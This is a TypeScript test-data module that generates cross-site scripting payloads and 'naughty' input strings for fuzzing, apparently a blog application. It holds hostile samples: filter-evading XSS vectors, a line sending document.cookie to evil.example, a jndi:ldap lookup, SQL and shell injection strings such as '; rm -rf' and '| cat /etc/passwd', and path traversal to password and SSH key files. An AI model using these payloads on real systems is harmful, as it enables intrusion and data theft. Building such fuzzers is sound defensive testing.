import { createChoices, SEED, type Choices } from '../seed.ts'

const TAGS = (
  'a abbr animate annotation-xml applet article audio b base bgsound body button canvas code custom-x details ' +
  'dialog div ' +
  'embed font foreignObject form frame frameset h1 head html iframe image img input isindex keygen label li link ' +
  'listing ' +
  'marquee math menu meta mglyph mtext noembed noframes noscript object option p picture plaintext portal pre q ' +
  's script ' +
  'section select set slot source span style summary svg table tbody td template textarea title track tr u ul ' +
  'use video x xmp'
).split(' ')

const EVENTS = (
  'onabort onafterprint onanimationend onanimationstart onauxclick onbeforeinput onbeforetoggle onbegin onblur ' +
  'oncanplay ' +
  'onchange onclick oncontextmenu oncopy oncut ondblclick ondrag ondrop onend onerror onfocus onfocusin onformdata ' +
  'ongotpointercapture onhashchange oninput oninvalid onkeydown onload onloadstart onmessage onmousedown ' +
  'onmouseenter ' +
  'onmouseover onmousewheel onpageshow onpaste onplay onpointerenter onpointermove onpopstate onrepeat onreset ' +
  'onresize ' +
  'onscroll onscrollend onsearch onselect onsubmit ontimeupdate ontoggle ontouchstart ontransitionend onunload onwheel'
).split(' ')

const URL_ATTRIBUTES = (
  'action background cite codebase content data dynsrc form formaction from href icon imagesrcset longdesc ' +
  'lowsrc manifest ' +
  'ping poster profile src srcdoc srcset style to usemap values xlink:href xml:base'
).split(' ')

const OTHER_ATTRIBUTES = [
  'autofocus',
  'tabindex=1',
  'contenteditable',
  'draggable=true',
  'target=_blank',
  'target="_top"',
  'rel=opener',
  'id=cookie',
  'name=location',
  'class=svc-blog',
  'is=x-y',
  'slot=x',
  'http-equiv=refresh',
  'attributeName=href',
  'style="position:fixed;inset:0;background:url(javascript:alert(1))"',
  'data-svc-blog=x',
  'aria-label="<script>alert(1)</script>"',
  'alt="--><img src=x onerror=alert(1)>"',
  'title="</title><script>alert(1)</script>"',
  'sandbox="allow-scripts allow-same-origin allow-top-navigation"',
  'allow="camera *; microphone *"',
  'nonce=x',
  'integrity=x'
]

const CODE = [
  'alert(1)',
  'alert`1`',
  'prompt(document.domain)',
  "confirm('x')",
  "eval(atob('YWxlcnQoMSk='))",
  "top['al'+'ert'](1)",
  'self[/ale/.source+/rt/.source](1)',
  "Function('alert(1)')()",
  '[].constructor.constructor("alert(1)")()',
  "import('https://evil.example/x.js')",
  "fetch('//evil.example/?'+document.cookie)",
  'location=name',
  "document.write('<img src=//evil.example>')",
  '\\u0061lert(1)',
  'window.onerror=alert;throw 1',
  'setTimeout`alert\\x281\\x29`',
  'throw onerror=alert,1',
  'with(document)body.appendChild(createElement(`script`)).src=`//evil.example/x`'
]

const SCHEMES = [
  'javascript:',
  'vbscript:',
  'livescript:',
  'mocha:',
  'data:text/html,',
  'data:text/html;base64,',
  'data:image/svg+xml,',
  'data:application/xhtml+xml,',
  'data:;,',
  'blob:https://evil.example/',
  'file:///etc/passwd#',
  'view-source:',
  'feed:javascript:',
  'jar:https://evil.example/x.jar!/',
  'filesystem:https://evil.example/',
  'ms-its:',
  'intent://scan/#Intent;scheme=javascript;',
  'about:blank#',
  '//evil.example/',
  '\\\\evil.example\\',
  'https:evil.example/',
  'http://evil.example\\@trusted.example/'
]

const SEPARATORS = [
  ' ',
  '  ',
  '/',
  '//',
  ' / ',
  '\t',
  '\n',
  '\r\n',
  '\f',
  '\v',
  '\0',
  '\u00a0',
  '\u2028',
  '"',
  "'",
  ' x=y '
]
const QUOTES: readonly (readonly [string, string])[] = [
  ['"', '"'],
  ["'", "'"],
  ['`', '`'],
  ['', ''],
  ['"', "'"],
  ['"', ''],
  ['&quot;', '&quot;'],
  ['“', '”']
]
const TAG_ENDS = ['>', '/>', ' >', '//', '', '\n>', '<', '>>', '/', ' <!--', '&gt;', '\0>']
const INVISIBLE = [
  '\0',
  '\t',
  '\n',
  '\r',
  '\u0001',
  '\u001f',
  '\u007f',
  '\u00ad',
  '\u200b',
  '\u200d',
  '\u2060',
  '\ufeff',
  '\u202e'
]

/** Ways to write one character so that some parser still reads the same one. */
const ENCODERS: readonly ((character: string, choices: Choices) => string)[] = [
  (character) => character,
  (character) => `&#${character.codePointAt(0)};`,
  (character) => `&#${character.codePointAt(0)}`,
  (character) => `&#${String(character.codePointAt(0)).padStart(7, '0')};`,
  (character) => `&#x${character.codePointAt(0)!.toString(16)};`,
  (character) => `&#X${character.codePointAt(0)!.toString(16).toUpperCase()}`,
  (character) => `&#x${character.codePointAt(0)!.toString(16).padStart(6, '0')};`,
  (character) => `&amp;#${character.codePointAt(0)};`,
  (character) => `%${character.codePointAt(0)!.toString(16).padStart(2, '0')}`,
  (character) => `\\u${character.codePointAt(0)!.toString(16).padStart(4, '0')}`,
  (character) => `\\x${character.codePointAt(0)!.toString(16).padStart(2, '0')}`,
  (character) => `\\${character.codePointAt(0)!.toString(16)} `,
  (character) => String.fromCodePoint(character.codePointAt(0)! + 0xfee0),
  (character, { pick }) => character + pick(INVISIBLE),
  (character, { pick }) => pick(INVISIBLE) + character,
  (character) => ({ ':': '&colon;', '(': '&lpar;', ')': '&rpar;', '/': '&sol;', t: '&#116' })[character] ?? character,
  (character, { pick }) =>
    character + pick(['&Tab;', '&NewLine;', '&#9;', '&#10;', '&#x0D;', '&ZeroWidthSpace;', '&shy;'])
]

function encode(text: string, choices: Choices): string {
  const { chance, index, pick } = choices
  if (chance(0.45)) return text
  const encoder = pick(ENCODERS)
  const share = pick([0.1, 0.3, 1])
  const shift = index(3)
  return Array.from(text, (character, at) =>
    /[!-~]/.test(character) && (share === 1 ? (at + shift) % 3 > -1 : chance(share))
      ? encoder(character, choices)
      : character
  ).join('')
}

function varyCase(text: string, { chance }: Choices): string {
  if (chance(0.6)) return text
  if (chance(0.3)) return text.toUpperCase()
  return Array.from(text, (character) => (chance(0.5) ? character.toUpperCase() : character)).join('')
}

function hostileUrl(choices: Choices): string {
  const { chance, pick } = choices
  const scheme = encode(varyCase(pick(SCHEMES), choices), choices)
  const code = pick(CODE)
  const body = scheme.includes('base64') ? Buffer.from(`<script>${code}</script>`).toString('base64') : code
  const start = chance(0.25) ? pick([...INVISIBLE, ' ', '&#1;', '&#32;', '&nbsp;', '%20', '%0a']) : ''
  const end = chance(0.2)
    ? pick(['//', '/*', '#', '?', '&', '&excl;', '\\', ' 1x', ', https://ok.example/x.png 2x'])
    : ''
  return start + scheme + encode(body, choices) + end
}

function attribute(choices: Choices): string {
  const { pick, next } = choices
  const kind = next()
  if (kind < 0.2) return pick(OTHER_ATTRIBUTES)
  const isEvent = kind < 0.6
  const name = varyCase(pick(isEvent ? EVENTS : URL_ATTRIBUTES), choices)
  const value = isEvent ? encode(pick(CODE), choices) : hostileUrl(choices)
  const [open, close] = pick(QUOTES)
  return `${name}${pick(['=', '=', '=', ' = ', '\n=\t', '\0=', '=='])}${open}${value}${close}`
}

function element(choices: Choices, depth = 0): string {
  const { chance, index, pick } = choices
  const tag = varyCase(pick(TAGS), choices)
  const name = chance(0.12) ? splitTag(tag, choices) : tag
  const attributes = Array.from({ length: 1 + index(3) }, () => pick(SEPARATORS) + attribute(choices)).join('')
  const start = pick(['<', '<', '<', '<', '<', '< ', '<\0', '&lt;', '<<', '</', '<!', '<?', '%3C', '＜'])
  const content = depth < 2 && chance(0.35) ? element(choices, depth + 1) : pick(['', '', 'x', ...CODE])
  const end = chance(0.5) ? `</${tag}${pick(['>', ' >', '/>', '', '\n>', ' x=y>'])}` : ''
  return start + name + attributes + pick(TAG_ENDS) + content + end
}

/** A tag name that becomes whole again when a filter removes part of it. */
function splitTag(tag: string, { index, pick }: Choices): string {
  const at = index(tag.length + 1)
  return tag.slice(0, at) + pick([`<${tag}>`, '<!---->', '<b>', '\0', '<script>', '</>', '/']) + tag.slice(at)
}

/** Contexts that a payload tries to leave, and content that parsers read in different ways. */
const CONTEXTS: readonly ((payload: string, choices: Choices) => string)[] = [
  (payload) => payload,
  (payload) => payload,
  (payload) => `">${payload}`,
  (payload) => `'>${payload}`,
  (payload) => `--><!-- --${payload}`,
  (payload) => `-->${payload}<!--`,
  (payload) => `]]>${payload}<![CDATA[`,
  (payload) => `<![CDATA[${payload}]]>`,
  (payload) => `<!--${payload}-->`,
  (payload) => `<!--[if gte IE 4]>${payload}<![endif]-->`,
  (payload) => `<!--><p title="-->${payload}">`,
  (payload) => `<?xml version="1.0"?>${payload}`,
  (payload, { pick }) => {
    const tag = pick([
      'script',
      'style',
      'title',
      'textarea',
      'noscript',
      'iframe',
      'xmp',
      'template',
      'noembed',
      'select'
    ])
    return `</${tag}>${payload}<${tag}>`
  },
  (payload, { pick }) => {
    const tag = pick(['style', 'title', 'textarea', 'noscript', 'xmp', 'noembed', 'noframes', 'iframe'])
    return `<${tag}><p title="</${tag}>${payload}">`
  },
  (payload, { pick }) => `<${pick(['svg', 'math'])}><${pick(['style', 'title', 'desc', 'mtext', 'p'])}>${payload}`,
  (payload) => `<math><mtext><table><mglyph><style><!--</style>${payload}`,
  (payload) => `<svg><foreignObject><p><style><a title="</style>${payload}">`,
  (payload) => `<form><math><mtext></form><form><mglyph><style></math>${payload}`,
  (payload) => `<table><td><a href="/x">${payload}<table>`,
  (payload) => `<a href="/x">${payload}<a href="/y">`,
  (payload) => `<select><option>${payload}`,
  (payload) => `<details open><summary>${payload}`,
  (payload) => `[text](${payload})`,
  (payload) => `[text](<${payload}> "title")`,
  (payload) => `![alt](${payload} "${payload}")`,
  (payload) => `[${payload}](https://ok.example/)`,
  (payload) => `[text][ref]\n\n[ref]: ${payload} "title"`,
  (payload) => `<${payload}>`,
  (payload) => `\`\`\`html\n${payload}\n\`\`\``,
  (payload) => `    ${payload}`,
  (payload) => `\`${payload}\``,
  (payload) => `| a | b |\n| - | - |\n| ${payload} | x |`,
  (payload) => `- ${payload}\n  - ${payload}`,
  (payload) => `> ${payload}\n# ${payload}`,
  (payload) => `note[^1]\n\n[^1]: ${payload}`,
  (payload) => `<div>\n\n${payload}\n\n</div>`,
  (payload) => `{{ "${payload}" | raw }}`,
  (payload) => `<a href="{{ '${payload}' }}">x</a>`
]

function payload(choices: Choices): string {
  const { chance, pick } = choices
  const kind = choices.next()
  if (kind < 0.7) return element(choices)
  if (kind < 0.88) return hostileUrl(choices)
  return pick(QUOTES)[0] + (chance(0.5) ? pick(SEPARATORS) : '') + attribute(choices) + pick(TAG_ENDS)
}

/**
 * Cross-site scripting payloads from a grammar: elements x attributes x schemes x encodings, with
 * tricks of case, white space and nesting, in contexts that a parser may leave. No payload twice.
 */
export function generateXssPayloads(count: number, seed: number = SEED): string[] {
  const choices = createChoices('xss-payloads', seed)
  const payloads = new Set<string>()
  while (payloads.size < count) payloads.add(choices.pick(CONTEXTS)(payload(choices), choices))
  return [...payloads]
}

const WORDS = [
  'undefined',
  'undef',
  'null',
  'NULL',
  '(null)',
  'nil',
  'None',
  'true',
  'FALSE',
  'NaN',
  'Infinity',
  'then'
]
const PROPERTIES = [
  '__proto__',
  'constructor',
  'prototype',
  'hasOwnProperty',
  'toString',
  'valueOf',
  '__defineGetter__',
  'length'
]
const NUMBERS = (
  '0 -0 +0 0.0 1.00 1/2 1E2 1e+02 -1e-02 1/0 0/0 0x0 0xffffffff 0b101 0o17 1_000 1,000.00 1.000,00 01000 08 ' +
  '9007199254740993 ' +
  '-9223372036854775808 18446744073709551616 2.2250738585072014e-308 1.7976931348623157e309 .5 5. -. 1.2.3 ١٢٣ ' +
  '１２３ ½ ² Ⅷ 一二三'
).split(' ')
const TEMPLATES = [
  '{{ 7 * 7 }}',
  '{% include "x" %}',
  '$' + '{7*7}',
  '#{7*7}',
  '<%= 7 * 7 %>',
  '{{constructor.constructor("return this")()}}',
  '[[$' + '{7*7}]]',
  '$(id)',
  '`id`',
  '$' + '{jndi:ldap://evil.example/x}',
  '%{7*7}',
  '{{{raw}}}',
  '@{x}',
  '\\{\\{x\\}\\}'
]
const FORMATS = [
  '%s',
  '%n%n%n',
  '%d %x %p',
  '%99999s',
  '{0}',
  '{}',
  '%00',
  '%',
  '%%',
  '%zz',
  '&amp;amp;',
  '&#x0;',
  '&bogus;'
]
const PATHS = [
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/dev/null',
  'C:\\CON',
  'NUL',
  'aux.txt',
  '~/.ssh/id_rsa',
  '....//....//etc/hosts',
  '%2e%2e%2f%2e%2e%2f',
  '\\\\server\\share',
  'file:///etc/hosts',
  './.git/config',
  'a/../../b',
  '.',
  '..',
  '/'
]
const SQL = [
  "' OR '1'='1",
  "'; DROP TABLE blogs; --",
  '" OR ""="',
  '1; SELECT pg_sleep(10)',
  "admin'--",
  "' UNION SELECT NULL, NULL --",
  "%' AND 1=0 --",
  '1) OR (1=1',
  '{"$gt": ""}',
  '{"$where": "sleep(1000)"}',
  "x' AND email IS NULL; --",
  'a OR 1=1 NEAR/2 b',
  '"unclosed',
  'col:*',
  '(a AND'
]
const COMMANDS = [
  '; rm -rf /tmp/x',
  '| cat /etc/passwd',
  '&& id',
  '$(touch x)',
  '`touch x`',
  '\n/bin/true',
  '-rf',
  '--help',
  '@file'
]
const PUNCTUATION = [
  ",./;'[]\\-=",
  '<>?:"{}|_+',
  '!@#$%^&*()`~',
  '...',
  '---',
  '***',
  '___',
  '###',
  '>>>',
  '|||',
  '\\\\\\',
  '""',
  "''",
  '``'
]
const SCRIPTS = [
  'Ω≈ç√∫˜µ≤≥÷',
  'åß∂ƒ©˙∆˚¬…æ',
  'ﬁ ﬂ ﬀ ﬄ ŉ ǆ',
  'ĲĳŁłØøÞþÐðŦŧ',
  'İıŞşĞğ',
  'ΣΑΣ ΟΔΟΣ ὀδός',
  'ЁЂЃЄЅІЇЈЉ ёщъыь',
  'Ѐѝ ҐґЎў',
  'שָׁלוֹם עוֹלָם',
  'مَرْحَبًا بِالعَالَمِ ﷽ ﷺ',
  'हिन्दी क्षत्रिय ज्ञान',
  'สวัสดีชาวโลก เก้าอี้',
  '東京都 ﾊﾟｿｺﾝ パソコン か゚',
  '汉字漢字 𠜎𠜱𠝹',
  '한국어 한글 조합',
  'Việt Nam Tiếng ố ộ ỡ',
  'ქართული ᲥᲐᲠᲗᲣᲚᲘ',
  'Ꭰ ᏣᎳᎩ ꮳꮃꭹ',
  'አማርኛ ፊደል',
  'தமிழ் க்ஷ',
  '𝒽𝑒𝓁𝓁𝑜 𝕨𝕠𝕣𝕝𝕕 𝖈𝖑𝖊𝖆𝖗',
  'ⓗⓔⓛⓛⓞ 🅷🅴🅻🅻🅾',
  '🇩🇪🇯🇵🇺 👩‍👩‍👧‍👦 👍🏽 ❤️ ☎︎ 1️⃣',
  '𐐨𐐩 𞤀𞤣𞤤𞤢𞤥',
  'ßẞ ſ ſ K Å',
  '﹏ ～ ｟｠ ＜script＞'
]
const SPACES = [
  '\t',
  '\n',
  '\r',
  '\v',
  '\f',
  '\u0085',
  '\u00a0',
  '\u1680',
  '\u2003',
  '\u2009',
  '\u2028',
  '\u2029',
  '\u202f',
  '\u205f',
  '\u3000'
]
const BIDI = [
  '\u061c',
  '\u200e',
  '\u200f',
  '\u202a',
  '\u202b',
  '\u202c',
  '\u202d',
  '\u202e',
  '\u2066',
  '\u2067',
  '\u2068',
  '\u2069'
]
const ZERO_WIDTH = [
  '\u00ad',
  '\u034f',
  '\u115f',
  '\u180e',
  '\u200b',
  '\u200c',
  '\u200d',
  '\u2060',
  '\u2800',
  '\u3164',
  '\ufe0f',
  '\ufeff',
  '\ufffc'
]
const SURROGATES = [
  '\ud800',
  '\udbff',
  '\udc00',
  '\udfff',
  '\ude00\ud83d',
  '\ud83d',
  'a\ud83db',
  '\ufdd0',
  '\uffff',
  '\u{1fffe}',
  '\u{10ffff}'
]
const WORD_PIECES = [
  'blog',
  'Straße',
  'naïve',
  'cafe\u0301',
  "O'Neill",
  'l’été',
  'x86',
  '東京',
  'сад',
  'δρόμος',
  'שלום',
  'مرحبا',
  'A',
  '7'
]

/** A control character except NUL, which JSON carries but stores may not. */
const controlCharacter = ({ index }: Choices) => String.fromCharCode(1 + index(31))

const NAUGHTY_KINDS: readonly ((choices: Choices) => string)[] = [
  ({ pick }) => pick(SCRIPTS) + pick(['', ' ', '-', '\u0301']) + pick(SCRIPTS),
  ({ pick }) => pick(WORD_PIECES) + pick(SPACES) + pick(WORD_PIECES),
  ({ pick }) => pick(BIDI) + pick(WORD_PIECES) + pick(BIDI) + pick(SCRIPTS),
  ({ pick }) => pick(WORD_PIECES) + pick(ZERO_WIDTH) + pick(WORD_PIECES),
  (choices) => choices.pick(WORD_PIECES) + controlCharacter(choices) + choices.pick(WORD_PIECES),
  ({ index, pick }) =>
    pick(WORD_PIECES) + String.fromCodePoint(0x300 + index(0x70)).repeat(1 + index(20)) + pick(WORD_PIECES),
  ({ index, pick }) =>
    pick(['a', '-', '\u00e9', '字', '🎉', '((', '[', '*', '_', '#', '<', '&', '\\']).repeat(2 + index(40)),
  ({ pick }) => pick(NUMBERS) + pick(['', ' ', '%', '$', '€', '°']) + pick(NUMBERS),
  ({ pick }) => `${pick(PUNCTUATION)}${pick(WORD_PIECES)}${pick(PUNCTUATION)}`,
  ({ pick }) => pick(PATHS) + pick(['', '/', '\\', '#', '?']) + pick(WORD_PIECES),
  ({ pick }) => pick(WORD_PIECES) + pick(SQL),
  ({ pick }) => pick(WORD_PIECES) + pick([' ', '']) + pick(TEMPLATES),
  ({ pick }) => pick(FORMATS) + pick(WORD_PIECES) + pick(FORMATS),
  ({ pick }) => pick(WORD_PIECES) + pick(COMMANDS),
  ({ index }) => Array.from({ length: 1 + index(12) }, () => String.fromCodePoint(0xa1 + index(0xd000))).join(''),
  ({ index }) => Array.from({ length: 1 + index(6) }, () => String.fromCodePoint(0x10000 + index(0x20000))).join('')
]

/** Strings that are worth a case of their own, whatever the seed. */
const FIXED: readonly string[] = [
  '',
  ' ',
  ...WORDS,
  ...PROPERTIES,
  ...NUMBERS,
  ...TEMPLATES,
  ...FORMATS,
  ...PATHS,
  ...SQL,
  ...COMMANDS,
  ...PUNCTUATION,
  ...SCRIPTS,
  ...SPACES,
  ...BIDI,
  ...ZERO_WIDTH,
  Array.from({ length: 31 }, (_, code) => String.fromCharCode(code + 1)).join(''),
  Array.from({ length: 33 }, (_, code) => String.fromCharCode(code + 0x7f)).join(''),
  SPACES.join(''),
  BIDI.join('x'),
  ZERO_WIDTH.join('x'),
  'x'.repeat(100),
  'x'.repeat(10_000),
  'word '.repeat(2_000),
  `a${'\u0300'.repeat(500)}`
]

/**
 * At least `count` different strings that break software: control characters, bidirectional and
 * zero-width characters, long runs, numbers, format strings, path traversal, SQL, templates. All
 * are well-formed and without NUL, unless `malformed` is set: lone surrogates and NUL are added.
 */
export function generateNaughtyStrings(
  count: number,
  { seed = SEED, malformed = false }: { seed?: number; malformed?: boolean } = {}
): string[] {
  const choices = createChoices('naughty-strings', seed)
  const strings = new Set(FIXED)
  if (malformed) for (const text of [...SURROGATES, '\0', 'a\0b', '\0\0']) strings.add(text)
  while (strings.size < count) {
    const made = choices.pick(NAUGHTY_KINDS)(choices)
    strings.add(malformed && choices.chance(0.1) ? made + choices.pick(SURROGATES) : made.toWellFormed())
  }
  return [...strings]
}
